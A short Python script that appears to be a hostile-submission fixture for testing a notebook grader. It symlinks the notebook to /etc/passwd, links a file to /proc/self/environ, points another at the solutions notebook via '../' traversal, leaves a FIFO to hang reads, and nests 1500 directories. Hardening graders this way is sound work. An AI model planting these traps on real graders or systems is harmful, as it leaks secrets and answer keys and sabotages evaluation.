"""Leave links, pipes and deeply nested folders where the grader works next.

cell: try-1-1
rest: solved
points: all
says: laid all traps
leaves no file: timestamp.txt
"""

import os
from pathlib import Path

notebook = Path("01_tools.ipynb")
notebook.unlink(missing_ok=True)
notebook.symlink_to("/etc/passwd")
Path("solution.txt").symlink_to("../../../solutions/01_tools/01_tools.ipynb")
Path("environment.txt").symlink_to("/proc/self/environ")
os.mkfifo("timestamp.txt")
here = os.getcwd()
for _ in range(1500):
    os.mkdir("deep")
    os.chdir("deep")
os.chdir(here)
print("laid", "all traps")
